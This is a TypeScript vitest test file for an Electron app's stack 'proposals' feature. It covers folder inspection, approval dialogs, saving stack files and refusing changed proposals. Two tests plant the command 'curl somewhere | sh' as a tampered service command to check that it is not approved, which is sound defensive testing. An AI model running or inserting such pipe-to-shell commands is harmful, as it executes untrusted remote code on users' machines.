import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Dialog } from 'electron';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createProposals } from '../../../electron/shell/proposals.ts';
import { trustApproval } from '../../support/example-approvals.ts';
import { exampleProposal, longProposal } from '../../support/example-proposals.ts';
import { createFakeHost } from '../../support/fake-host.ts';
import { aSnapshot, aView } from '../../support/views.ts';

let parent: string;
let folder: string;
beforeEach(() => {
  parent = mkdtempSync(join(tmpdir(), 'stacklight-proposals-'));
  folder = join(parent, 'shop');
  mkdirSync(folder);
});
afterEach(() => rmSync(parent, { recursive: true, force: true }));

/** A person who chooses this in every dialog, or leaves it. */
function rooms({
  chosen,
  view = aView({ stacks: [] }),
  confirms = true,
}: {
  chosen?: string;
  view?: ReturnType<typeof aView>;
  confirms?: boolean;
} = {}) {
  const host = createFakeHost(view);
  const shownFiles: string[] = [];
  const opened: string[] = [];
  const dialog = {
    showOpenDialog: async () => ({ canceled: chosen === undefined, filePaths: chosen === undefined ? [] : [chosen] }),
    showSaveDialog: async () => ({ canceled: chosen === undefined, filePath: chosen ?? '' }),
    showMessageBox: async () => ({ response: confirms ? 0 : 1 }),
  } as unknown as Dialog;
  const proposals = createProposals({
    ...{ host, dialog, home: parent },
    showFile: async (path) => {
      shownFiles.push(path);
      return path.includes('no-editor') ? 'no program opens it' : '';
    },
    opened: (path) => void opened.push(path),
  });
  return { host, proposals, shownFiles, opened };
}

type Rooms = ReturnType<typeof rooms>;

async function proposed({ proposals }: Rooms, from: 'folder' | 'machine' = 'folder') {
  const { proposal } = await proposals.propose(from);
  if (!proposal) throw new Error('nothing was proposed');
  return proposal;
}

describe('a proposal', () => {
  it('of a folder shows what its services would be', async () => {
    const proposal = await proposed(rooms({ chosen: folder }));
    expect(proposal).toMatchObject({ name: 'shop', folder: '~/shop', files: ['compose.yaml', 'package.json'] });
    expect(proposal.services).toMatchObject([
      {
        id: 'db',
        kind: 'container',
        ports: ['5432'],
        check: 'tcp 127.0.0.1:5432, every 5 s',
        runs: [{ what: 'image', text: 'postgres:17' }],
        chosen: true,
      },
      {
        id: 'web',
        kind: 'native',
        ports: ['5173'],
        check: 'GET http://localhost:5173/, every 5 s',
        runs: [{ what: 'command', text: 'npm run dev' }],
        chosen: true,
      },
      { id: 'mail', ports: [], runs: [{ what: 'command', text: 'npm run mail' }], chosen: false },
    ]);
    expect(proposal.services[2]).not.toHaveProperty('check');
    expect(proposal.notes).toHaveLength(1);
  });

  it('shows each address, protocol and port', async () => {
    const host = rooms();
    Object.assign(host.host, { lookAtMachine: async () => ({ ok: true, value: longProposal() }) });
    const { services } = await proposed(host, 'machine');
    expect(services[0]).toMatchObject({ ports: ['127.0.0.2:8000', '9000/udp', '9100', '9200'] });
    expect(services[0]?.group).toBe('Compose project shop');
  });

  it('is none when the dialog was left, or nothing was dropped', async () => {
    const { proposals, host } = rooms();
    expect(await proposals.propose('folder')).toEqual({});
    expect(await proposals.propose('dropped')).toEqual({});
    expect(host.calls).toEqual([]);
  });

  it('of what was dropped is made once', async () => {
    const { proposals, host } = rooms();
    proposals.dropped(folder);
    expect((await proposals.propose('dropped')).proposal?.name).toBe('shop');
    expect(await proposals.propose('dropped')).toEqual({});
    expect(host.calls).toEqual([`look at ${folder}`]);
  });

  it('is not made of a folder with a stack file of ours: that is opened, and asks there', async () => {
    const { proposals, host, opened } = rooms({ chosen: '/home/dev/own' });
    expect(await proposals.propose('folder')).toEqual({ stack: 'shop' });
    expect(host.calls).toEqual(['look at /home/dev/own', 'open /home/dev/own/stacklight.yaml']);
    expect([host.requested, opened]).toEqual([[], ['/home/dev/own/stacklight.yaml']]);
  });

  it('says what is wrong with a folder that cannot be read', async () => {
    expect(await rooms({ chosen: '/broken' }).proposals.propose('folder')).toMatchObject({
      problem: { message: 'The file cannot be read.' },
    });
  });

  it('is written down for what is ticked', async () => {
    const all = rooms({ chosen: folder });
    const { id } = await proposed(all);
    const { text } = all.proposals.text({ proposal: id, services: ['web'] });
    expect(text).toContain('npm run dev');
    expect(text).not.toContain('postgres');
    expect(all.proposals.text({ proposal: 'nobody knows it', services: [] })).toMatchObject({
      problem: { code: 'proposal-gone' },
    });
  });
});

describe('a yes', () => {
  const commands = [{ service: 'web', what: 'command', text: 'npm run dev' } as const];
  const asked = aView({ stacks: [aSnapshot({ approval: { ...trustApproval, commands } })] });

  it('to a folder as it is opens it, writes nothing, and answers what would be asked', async () => {
    const all = rooms({ chosen: folder, view: asked });
    const { id } = await proposed(all);
    const answer = await all.proposals.accept({ proposal: id, services: ['web', 'db'], how: 'open', start: true });
    expect(answer).toEqual({ stack: 'shop' });
    expect(all.host.calls.at(-1)).toBe(`open ${folder}`);
    expect(all.host.requested).toEqual([{ type: 'approve', stack: 'shop', approval: 'trust-1', start: true }]);
    expect(all.opened).toEqual([folder]);
    expect(existsSync(join(folder, 'stacklight.yaml'))).toBe(false);
  });

  it('that is not confirmed outside of the page approves nothing', async () => {
    const all = rooms({ chosen: folder, view: asked, confirms: false });
    const { id } = await proposed(all);
    const answer = await all.proposals.accept({ proposal: id, services: ['web', 'db'], how: 'open', start: true });
    expect(answer).toMatchObject({ stack: 'shop', problem: { code: 'not-confirmed' } });
    expect(all.host.requested).toEqual([]);
  });

  it('starts a stack that needs no yes any more, and only when that is wanted', async () => {
    for (const start of [true, false]) {
      const all = rooms({ chosen: folder, view: aView() });
      const { id } = await proposed(all);
      await all.proposals.accept({ proposal: id, services: ['db', 'web'], how: 'open', start });
      expect(all.host.requested).toEqual(start ? [{ type: 'up', stack: 'shop', services: [] }] : []);
    }
  });

  it('to a part of a folder writes a stack file and opens that', async () => {
    const all = rooms({ chosen: folder, view: asked });
    const { id } = await proposed(all);
    const answer = await all.proposals.accept({ proposal: id, services: ['web'], how: 'open', start: false });
    const file = join(folder, 'stacklight.yaml');
    expect([answer, all.host.calls.at(-1)]).toEqual([{ stack: 'shop' }, `open ${file}`]);
    expect(readFileSync(file, 'utf8')).toMatch(/^# yaml-language-server: \$schema=file:\S+\n[\s\S]*npm run dev/);
  });

  it('to files that changed since they were shown is none', async () => {
    const all = rooms({ chosen: folder, view: asked });
    const { id } = await proposed(all);
    const [db, web] = exampleProposal().services;
    if (!db || !web) throw new Error('the example has services');
    const changed = exampleProposal({
      directory: folder,
      services: [db, { ...web, entry: { command: 'curl somewhere | sh' } }],
    });
    Object.assign(all.host, { lookAt: async () => ({ ok: true, value: { kind: 'proposal', proposal: changed } }) });
    const answer = await all.proposals.accept({ proposal: id, services: ['db', 'web'], how: 'open', start: true });
    expect(answer).toMatchObject({ problem: { code: 'proposal-changed' } });
    expect([all.host.calls.filter((call) => call.startsWith('open')), all.host.requested]).toEqual([[], []]);
  });

  it('is none to what was not shown: the stack is open and asks', async () => {
    const more = [...commands, { service: 'web', what: 'preflight', text: 'curl somewhere | sh' } as const];
    const view = aView({ stacks: [aSnapshot({ approval: { ...trustApproval, commands: more } })] });
    const all = rooms({ chosen: folder, view });
    const { id } = await proposed(all);
    const answer = await all.proposals.accept({ proposal: id, services: ['db', 'web'], how: 'open', start: true });
    expect([answer.stack, answer.problem?.code, all.host.requested]).toEqual(['shop', 'asks-more', []]);
  });

  it('to a proposal that nobody holds is none', async () => {
    const { proposals } = rooms();
    expect(await proposals.accept({ proposal: 'x', services: ['web'], how: 'open', start: true })).toMatchObject({
      problem: { code: 'proposal-gone' },
    });
  });

  it('is told when the supervisor refused it, together with the stack that is open', async () => {
    const all = rooms({ chosen: folder, view: asked });
    const { id } = await proposed(all);
    const problem = { code: 'approval-changed', message: 'It asks something else now.' };
    Object.assign(all.host, { request: async () => ({ ok: false, problem }) });
    const answer = await all.proposals.accept({ proposal: id, services: ['db', 'web'], how: 'open', start: true });
    expect(answer).toEqual({ stack: 'shop', problem });
  });
});

describe('saving', () => {
  it('writes the file, shows it in the editor and opens nothing', async () => {
    const all = rooms({ chosen: folder });
    const { id } = await proposed(all);
    const answer = await all.proposals.accept({ proposal: id, services: ['web'], how: 'save', start: false });
    expect(answer).toEqual({ saved: '~/shop/stacklight.yaml' });
    expect(all.shownFiles).toEqual([join(folder, 'stacklight.yaml')]);
    expect(all.host.calls).toEqual([`look at ${folder}`]);
  });

  it('of this machine asks for the place; leaving that dialog changes nothing', async () => {
    const file = join(parent, 'mine.yaml');
    const chooses = rooms({ chosen: file });
    const { id } = await proposed(chooses, 'machine');
    await chooses.proposals.accept({ proposal: id, services: ['web'], how: 'save', start: false });
    expect(readFileSync(file, 'utf8')).toContain('npm run dev');
    const leaves = rooms();
    const other = await proposed(leaves, 'machine');
    const request = { proposal: other.id, services: ['web'], how: 'open', start: true } as const;
    expect(await leaves.proposals.accept({ ...request, services: ['web'] })).toEqual({});
    expect(leaves.host.calls).toEqual([]);
  });

  it('never writes over a file that is there', async () => {
    const file = join(folder, 'stacklight.yaml');
    writeFileSync(file, 'name: mine\n');
    const all = rooms({ chosen: folder });
    const { id } = await proposed(all);
    for (const how of ['save', 'open'] as const) {
      const answer = await all.proposals.accept({ proposal: id, services: ['web'], how, start: true });
      expect(answer).toMatchObject({ problem: { code: 'file-exists', file } });
    }
    expect(readFileSync(file, 'utf8')).toBe('name: mine\n');
    expect([all.shownFiles, all.host.requested]).toEqual([[], []]);
  });

  it('says where the file is when no program opens it, or why it could not be written', async () => {
    const mute = rooms({ chosen: join(parent, 'no-editor.yaml') });
    const { id } = await proposed(mute, 'machine');
    expect(await mute.proposals.accept({ proposal: id, services: ['web'], how: 'save', start: false })).toMatchObject({
      saved: '~/no-editor.yaml',
      problem: { message: expect.stringContaining('no program opens it') },
    });
    const nowhere = rooms({ chosen: join(parent, 'no/such/folder.yaml') });
    const other = await proposed(nowhere, 'machine');
    const request = { proposal: other.id, services: ['web'], how: 'save', start: false } as const;
    expect(await nowhere.proposals.accept({ ...request, services: ['web'] })).toMatchObject({
      problem: { code: 'file-unwritable' },
    });
  });
});
